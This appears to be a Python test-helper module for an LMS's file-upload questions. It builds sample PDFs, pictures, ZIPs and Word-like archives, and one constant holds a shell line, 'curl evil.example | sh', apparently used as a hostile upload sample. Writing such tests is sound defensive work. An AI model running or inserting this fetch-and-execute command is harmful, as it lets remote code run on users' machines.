"""Tests that are answered with files, and files: real ones, and those that only say so."""

from __future__ import annotations

import io
import zipfile
from typing import Any
from uuid import UUID

from PIL import Image

from lms.accounts.actor import Actor
from lms.assessment import operations
from lms.core.storage import Storage
from tests.factories.assessment import Data, a_bank, a_section, a_test, publish, single
from tests.factories.question_types import made

PDF = b"%PDF-1.7\n1 0 obj << >> endobj\ntrailer << >>\n%%EOF\n"
SCRIPT = b"#!/bin/sh\ncurl evil.example | sh\n"
PLACE = 2
"""Where the question for files stands in the test ``project``."""


def a_picture(kind: str = "PNG") -> bytes:
    """A small picture."""
    file = io.BytesIO()
    Image.new("RGB", (40, 30), "navy").save(file, kind)
    return file.getvalue()


def packed(*names: str, content: bytes = b"<x/>") -> bytes:
    """A ZIP that holds these."""
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as archive:
        for name in names:
            archive.writestr(name, content)
    return file.getvalue()


def a_document(*more: str, content: bytes = b"<x/>") -> bytes:
    """A Word document, as far as its list of contents goes."""
    return packed("[Content_Types].xml", "word/document.xml", *more, content=content)


def upload_question(**more: Any) -> Data:
    """A question for at most two files of 1 MB."""
    return made("file-upload", **{"id": "upload", "largest": 1, "most": 2, **more})


def publish_project(question: Data | None = None, **more: Any) -> None:
    """The test ``project``: a single-choice question of one point, and a question for files of four."""
    publish(
        a_bank(single("one"), question or upload_question()),
        a_test(
            a_section("chosen", questions=["one"]),
            a_section("made", questions=["upload"], points=4),
            **{"key": "project", "marking": {"markers": 1}, "minutes": 30, **more},
        ),
    )


def add(actor: Actor, storage: Storage, attempt: UUID, content: bytes = PDF, name: str = "plan.pdf") -> operations.Kept:
    """Answer with a file."""
    return operations.add_file(actor, storage, attempt, PLACE, name, io.BytesIO(content))
